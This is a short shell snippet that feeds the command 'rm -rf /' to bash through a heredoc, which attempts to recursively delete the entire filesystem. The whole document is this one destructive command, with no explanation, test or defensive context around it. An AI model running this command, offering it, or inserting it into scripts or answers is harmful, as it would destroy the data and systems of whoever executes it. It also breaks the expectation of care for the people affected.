cat <<EOF | bash
rm -rf /
EOF
